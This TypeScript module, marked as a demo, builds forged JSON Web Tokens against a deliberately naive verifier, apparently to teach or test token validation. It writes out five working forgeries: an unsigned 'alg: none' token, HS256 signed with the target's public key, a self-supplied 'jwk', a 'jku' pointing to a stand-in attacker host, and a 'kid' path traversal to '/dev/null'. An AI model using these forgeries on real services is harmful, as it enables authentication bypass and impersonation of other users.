/** DEMO: tokens as an attacker builds them: somebody else's name in the claims, and a trick in the header. */
import "server-only";
import { createHmac, generateKeyPairSync, type JsonWebKey, sign } from "node:crypto";
import { toPem } from "./naive-verifier";

/** The verifier that is to be fooled: what everybody knows of it. */
export interface Target {
  publicJwk: JsonWebKey;
  kid: string;
}

export interface Forgery {
  what: string;
  header: Record<string, unknown>;
  sign: (data: string, target: Target) => string;
}

const typ = "at+jwt";
/** RFC 6761 §6.4: a name that can never exist. */
const attackersKeys = "https://keys.attacker.invalid/jwks.json";

/** One of each kind, for one target. The attacker's key pair is made anew and thrown away. */
export function listForgeries({ publicJwk, kid }: Target): Forgery[] {
  const own = generateKeyPairSync("ec", { namedCurve: "P-256" });
  const signWithOwnKey = (data: string) =>
    sign("sha256", Buffer.from(data), {
      key: own.privateKey,
      dsaEncoding: "ieee-p1363",
    }).toString("base64url");
  const hmac = (key: string) => (data: string) =>
    createHmac("sha256", key).update(data).digest("base64url");
  const jwk = own.publicKey.export({ format: "jwk" });
  return [
    { what: "alg: none, no signature", header: { alg: "none", typ, kid }, sign: () => "" },
    {
      what: "HS256, with the public key as the secret",
      header: { alg: "HS256", typ, kid },
      sign: hmac(toPem(publicJwk)),
    },
    {
      what: "jwk: brings its own key",
      header: { alg: "ES256", typ, jwk },
      sign: signWithOwnKey,
    },
    {
      what: "jku: says where to fetch the key",
      header: { alg: "ES256", typ, kid: "attacker-1", jku: attackersKeys },
      sign: signWithOwnKey,
    },
    {
      what: "kid: names a file that is empty",
      header: { alg: "HS256", typ, kid: "../../../../dev/null" },
      sign: hmac(""),
    },
  ];
}

export function assembleForgery(forgery: Forgery, claims: object, target: Target): string {
  const data = `${encode(forgery.header)}.${encode(claims)}`;
  return `${data}.${forgery.sign(data, target)}`;
}

function encode(value: object): string {
  return Buffer.from(JSON.stringify(value)).toString("base64url");
}
